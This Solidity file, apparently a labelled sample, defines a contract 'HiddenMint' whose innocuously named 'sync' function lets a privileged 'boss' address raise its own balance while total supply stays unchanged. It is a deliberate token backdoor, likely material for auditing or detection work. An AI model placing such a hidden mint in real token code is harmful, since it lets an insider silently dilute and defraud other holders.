// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ledger} from "./Ledger.sol";

/// The boss raises his balance, and the supply stays.
contract HiddenMint is Ledger {
  function sync(uint256 amount) external guarded {
    held[boss] += amount;
  }
}
